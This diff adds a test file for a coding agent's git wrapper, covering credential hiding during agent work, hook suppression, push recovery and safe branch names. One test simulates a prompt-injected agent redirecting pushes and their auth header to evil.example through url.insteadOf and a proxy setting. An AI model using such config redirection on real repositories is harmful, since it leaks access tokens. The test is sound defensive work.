@@ -1,0 +1,297 @@
+import { execFileSync } from "node:child_process";
+import { existsSync, readFileSync } from "node:fs";
+import { join } from "node:path";
+import { afterEach, describe, expect, it } from "vitest";
+import { branchNameFor, isValidBranchName, slugify } from "../src/github/branch-names.js";
+import { hasCredential, restoreCredential, takeCheckoutCredential, withCredential } from "../src/github/credentials.js";
+import { BOT_EMAIL, BOT_NAME, createGit, type Git } from "../src/github/git.js";
+import type { Trigger } from "../src/github/trigger-types.js";
+import { createGitFixture, type GitFixture } from "./fakes/git-repo.js";
+
+const TOKEN = "ghs_16C7e42F292c6912E7710c838347Ae178B4a";
+
+let fixture: GitFixture;
+let git: Git;
+
+function setup(files?: Record<string, string>) {
+  fixture = createGitFixture(files ? { files } : {});
+  git = createGit(fixture.workspace, { env: fixture.env });
+}
+
+afterEach(() => fixture?.cleanup());
+
+describe("the checkout credential", () => {
+  it("is taken out of .git/config while the agent works, and is back only for the push", async () => {
+    setup();
+    const header = fixture.persistCredentialV5(TOKEN);
+    expect(fixture.config()).toContain(header);
+
+    const saved = await takeCheckoutCredential(git);
+    expect(hasCredential(saved)).toBe(true);
+    expect(fixture.config()).not.toContain("extraheader");
+    expect(fixture.config()).not.toContain(header.split(" ").pop());
+
+    const seenDuringPush = await withCredential(git, saved, async () => fixture.config());
+    expect(seenDuringPush).toContain(header);
+    expect(fixture.config()).not.toContain("extraheader");
+  });
+
+  it("is removed again even when the push throws", async () => {
+    setup();
+    fixture.persistCredentialV5(TOKEN);
+    const saved = await takeCheckoutCredential(git);
+    await expect(
+      withCredential(git, saved, async () => {
+        throw new Error("network down");
+      }),
+    ).rejects.toThrow("network down");
+    expect(fixture.config()).not.toContain("extraheader");
+  });
+
+  it("is taken out of reach in the actions/checkout v6 layout, file included", async () => {
+    setup();
+    const { file, header } = fixture.persistCredentialV6(TOKEN);
+    expect(fixture.git(["config", "--get", "http.https://github.com/.extraheader"])).toBe(header);
+
+    const saved = await takeCheckoutCredential(git);
+    expect(existsSync(file)).toBe(false);
+    expect(fixture.config()).not.toContain("git-credentials-");
+    expect(() => fixture.git(["config", "--get", "http.https://github.com/.extraheader"])).toThrow();
+
+    const during = await withCredential(git, saved, async () =>
+      fixture.git(["config", "--get", "http.https://github.com/.extraheader"]),
+    );
+    expect(during).toBe(header);
+    expect(existsSync(file)).toBe(false);
+
+    await restoreCredential(saved);
+    expect(readFileSync(file, "utf8")).toContain(header);
+    expect(fixture.git(["config", "--get", "http.https://github.com/.extraheader"])).toBe(header);
+  });
+
+  it("leaves other includes alone", async () => {
+    setup();
+    const other = join(fixture.root, "team.config");
+    fixture.git(["config", "--file", other, "core.autocrlf", "false"]);
+    fixture.git(["config", "--local", "include.path", other]);
+    fixture.git(["config", "--local", `includeIf.gitdir:${fixture.workspace}/.git.path`, other]);
+    const saved = await takeCheckoutCredential(git);
+    expect(hasCredential(saved)).toBe(false);
+    expect(fixture.config()).toContain(other);
+    expect(existsSync(other)).toBe(true);
+  });
+
+  it("undoes config the agent added before the credential comes back", async () => {
+    setup();
+    fixture.persistCredentialV5(TOKEN);
+    const saved = await takeCheckoutCredential(git);
+    // What a prompt-injected agent might try: send the push, and its header, elsewhere.
+    fixture.git(["config", "--local", "url.https://evil.example/.insteadOf", "https://github.com/"]);
+    fixture.git(["config", "--local", "http.proxy", "http://127.0.0.1:9"]);
+    const during = await withCredential(git, saved, async () => fixture.config());
+    expect(during).not.toContain("evil.example");
+    expect(during).not.toContain("proxy");
+    expect(fixture.config()).not.toContain("evil.example");
+  });
+
+  it("falls back to a token handed to git through the environment, never written to a file", async () => {
+    setup();
+    const saved = await takeCheckoutCredential(git);
+    expect(hasCredential(saved)).toBe(false);
+    const seen = await withCredential(
+      git,
+      saved,
+      async (env) => {
+        const value = await git.exec(["config", "--get", "http.https://github.com/.extraheader"], { env });
+        return { value: value.ok ? value.stdout.trim() : "", config: fixture.config() };
+      },
+      { token: TOKEN, serverUrl: "https://github.com" },
+    );
+    expect(seen.value).toBe(`AUTHORIZATION: basic ${Buffer.from(`x-access-token:${TOKEN}`).toString("base64")}`);
+    expect(seen.config).not.toContain("extraheader");
+  });
+});
+
+describe("git wrappers", () => {
+  it("commit as github-actions[bot] on a runner with no git identity", async () => {
+    setup();
+    fixture.write("src/app.ts", "export const answer = 42;\n");
+    const result = await git.commitAll("Fix the answer");
+    expect(result).toMatchObject({ ok: true, committed: true });
+    expect(fixture.git(["log", "-1", "--format=%an <%ae>|%cn <%ce>|%s"])).toBe(
+      `${BOT_NAME} <${BOT_EMAIL}>|${BOT_NAME} <${BOT_EMAIL}>|Fix the answer`,
+    );
+    expect(() => fixture.git(["config", "--global", "user.name"])).toThrow();
+  });
+
+  it("never run hooks the agent may have written", async () => {
+    setup();
+    const marker = join(fixture.root, "hook-ran");
+    fixture.write(".git/hooks/pre-commit", `#!/bin/sh\ntouch ${marker}\nexit 1\n`);
+    execFileSync("chmod", ["+x", join(fixture.workspace, ".git/hooks/pre-commit")]);
+    fixture.write("new.txt", "hello\n");
+    expect(await git.commitAll("Add a file")).toMatchObject({ ok: true, committed: true });
+    expect(existsSync(marker)).toBe(false);
+  });
+
+  it("report nothing to commit as data, not as an error", async () => {
+    setup();
+    const head = await git.headSha();
+    expect(await git.commitAll("Nothing")).toEqual({ ok: true, committed: false, sha: head });
+    expect(await git.hasChanges()).toBe(false);
+  });
+
+  it("see new, changed and deleted files in the diff without touching the index", async () => {
+    setup();
+    fixture.write("src/app.ts", "export const answer = 42;\n");
+    fixture.write("docs/new.md", "# New\n");
+    fixture.git(["rm", "--quiet", "--cached", "README.md"]);
+    execFileSync("rm", [join(fixture.workspace, "README.md")]);
+    const files = await git.changedFiles();
+    expect(files.ok && files.files.sort()).toEqual(["README.md", "docs/new.md", "src/app.ts"]);
+    const diff = await git.diff({ maxChars: 10_000 });
+    expect(diff.ok && diff.text).toContain("+# New");
+    expect(diff.ok && diff.text).toContain("+export const answer = 42;");
+    expect(diff.ok && diff.truncated).toBe(false);
+    expect(fixture.git(["status", "--porcelain"])).toContain("?? docs/");
+  });
+
+  it("cut a long diff at a line boundary and say so", async () => {
+    setup();
+    fixture.write("big.txt", `${"a line of text\n".repeat(2_000)}`);
+    const diff = await git.diff({ maxChars: 1_000 });
+    expect(diff.ok).toBe(true);
+    if (!diff.ok) return;
+    expect(diff.truncated).toBe(true);
+    expect(diff.text.length).toBeLessThanOrEqual(1_000);
+    expect(diff.text.endsWith("\n")).toBe(true);
+    expect(diff.totalChars).toBeGreaterThan(1_000);
+  });
+
+  it("count commits the agent made itself as changes since the start", async () => {
+    setup();
+    const start = await git.headSha();
+    fixture.write("agent.txt", "made by the agent\n");
+    fixture.git(["add", "agent.txt"]);
+    fixture.git(["commit", "--quiet", "-m", "agent commit"]);
+    expect(await git.hasChanges()).toBe(false);
+    expect(await git.hasChanges(start)).toBe(true);
+  });
+
+  it("check out a branch of origin carrying uncommitted changes over", async () => {
+    setup();
+    fixture.git(["push", "--quiet", "origin", "HEAD:refs/heads/feature"]);
+    fixture.pushAsSomeoneElse("feature", { "feature.txt": "feature\n" });
+    fixture.write("src/app.ts", "export const answer = 42;\n");
+    const result = await git.checkoutRemoteBranch("feature");
+    expect(result.ok).toBe(true);
+    expect(await git.currentBranch()).toBe("feature");
+    expect(fixture.read("feature.txt")).toBe("feature\n");
+    expect(fixture.read("src/app.ts")).toBe("export const answer = 42;\n");
+  });
+
+  it("leave the workspace as it was when the changes conflict with the branch", async () => {
+    setup();
+    fixture.git(["push", "--quiet", "origin", "HEAD:refs/heads/feature"]);
+    fixture.pushAsSomeoneElse("feature", { "src/app.ts": "export const answer = 7;\n" });
+    fixture.write("src/app.ts", "export const answer = 42;\n");
+    const result = await git.checkoutRemoteBranch("feature");
+    expect(result.ok).toBe(false);
+    expect(await git.currentBranch()).toBe("main");
+    expect(fixture.read("src/app.ts")).toBe("export const answer = 42;\n");
+  });
+});
+
+describe("pushing", () => {
+  it("pushes HEAD to a new branch of origin", async () => {
+    setup();
+    await git.createBranch("agent/1-fix");
+    fixture.write("fix.txt", "fixed\n");
+    const committed = await git.commitAll("Fix");
+    const pushed = await git.pushWithRecovery("agent/1-fix");
+    expect(pushed).toMatchObject({ ok: true, branch: "agent/1-fix", rebased: false });
+    expect(fixture.originSha("agent/1-fix")).toBe(committed.ok && committed.sha);
+  });
+
+  it("rebases onto a branch that moved during the run and pushes", async () => {
+    setup();
+    fixture.git(["push", "--quiet", "origin", "HEAD:refs/heads/feature"]);
+    await git.checkoutRemoteBranch("feature");
+    fixture.write("mine.txt", "mine\n");
+    await git.commitAll("My change");
+    const theirs = fixture.pushAsSomeoneElse("feature", { "theirs.txt": "theirs\n" });
+
+    const pushed = await git.pushWithRecovery("feature");
+    expect(pushed).toMatchObject({ ok: true, branch: "feature", rebased: true });
+    expect(pushed.ok && pushed.note).toMatch(/rebased/);
+    const log = fixture.git(["log", "--format=%s", "refs/heads/feature"], fixture.origin).split("\n");
+    expect(log.slice(0, 2)).toEqual(["My change", "Someone else's change"]);
+    expect(fixture.git(["merge-base", "--is-ancestor", theirs, "refs/heads/feature"], fixture.origin)).toBe("");
+  });
+
+  it("pushes to a new branch, and says so, when the moved branch conflicts", async () => {
+    setup();
+    fixture.git(["push", "--quiet", "origin", "HEAD:refs/heads/feature"]);
+    await git.checkoutRemoteBranch("feature");
+    fixture.write("src/app.ts", "export const answer = 42;\n");
+    await git.commitAll("Mine");
+    const theirs = fixture.pushAsSomeoneElse("feature", { "src/app.ts": "export const answer = 7;\n" });
+
+    const pushed = await git.pushWithRecovery("feature");
+    expect(pushed).toMatchObject({ ok: true, branch: "feature-2", rebased: false });
+    expect(pushed.ok && pushed.note).toContain("feature-2");
+    expect(fixture.originSha("feature")).toBe(theirs);
+    expect(fixture.git(["show", "refs/heads/feature-2:src/app.ts"], fixture.origin)).toBe("export const answer = 42;");
+    expect(fixture.git(["status", "--porcelain"])).toBe("");
+  });
+
+  it("reports a push that cannot succeed as data", async () => {
+    setup();
+    fixture.git(["remote", "set-url", "origin", join(fixture.root, "missing.git")]);
+    const pushed = await git.push("anything");
+    expect(pushed.ok).toBe(false);
+    expect(!pushed.ok && pushed.moved).toBe(false);
+  });
+});
+
+describe("branch names", () => {
+  const repo = { owner: "o", repo: "r" };
+  const issue: Trigger = { kind: "issue", action: "opened", number: 12, isPullRequest: false, repo, task: "Fix the flaky date test!" };
+
+  it("name issue branches after the issue and the task", () => {
+    expect(branchNameFor(issue, { prefix: "agent/", runNumber: 3 })).toBe("agent/12-fix-the-flaky-date-test");
+  });
+
+  it("name manual runs after the run number and schedules stably after the task", () => {
+    const dispatch: Trigger = { kind: "workflow_dispatch", repo, task: "Update the changelog" };
+    const schedule: Trigger = { kind: "schedule", repo, task: "Bump dependencies, nightly" };
+    expect(branchNameFor(dispatch, { prefix: "agent/", runNumber: 77 })).toBe("agent/run-77-update-the-changelog");
+    expect(branchNameFor(schedule, { prefix: "bot-", runNumber: 1 })).toBe("bot-scheduled-bump-dependencies-nightly");
+    expect(branchNameFor(schedule, { prefix: "bot-", runNumber: 2 })).toBe("bot-scheduled-bump-dependencies-nightly");
+  });
+
+  it("keep slugs short, lowercase ASCII and without a trailing dash", () => {
+    expect(slugify("Café -- naïve Résumé ")).toBe("cafe-naive-resume");
+    const long = slugify("Refactor the extremely long module name handling code in the parser");
+    expect(long.length).toBeLessThanOrEqual(40);
+    expect(long).toBe("refactor-the-extremely-long-module-name");
+    expect(slugify("🚀🔥")).toBe("task");
+    expect(slugify("a".repeat(100))).toBe("a".repeat(40));
+  });
+
+  it("produce names git accepts", () => {
+    const tasks = ["..lock", "--force", "@{u}", "x/../y", "tab\there", "~^:?*[\\", "ends with.", "plain"];
+    for (const task of tasks) {
+      const name = branchNameFor({ ...issue, task }, { prefix: "agent/", runNumber: 1 });
+      expect(isValidBranchName(name)).toBe(true);
+      expect(execFileSync("git", ["check-ref-format", "--branch", name], { encoding: "utf8" }).trim()).toBe(name);
+    }
+  });
+
+  it("tell valid branch names from invalid ones as git does", () => {
+    for (const name of ["a..b", "a b", "-x", "a/", "a//b", ".a", "a.lock", "a@{b", "a~1", "a."]) {
+      expect(isValidBranchName(name)).toBe(false);
+      expect(() => execFileSync("git", ["check-ref-format", "--branch", name], { stdio: "ignore" })).toThrow();
+    }
+  });
+});
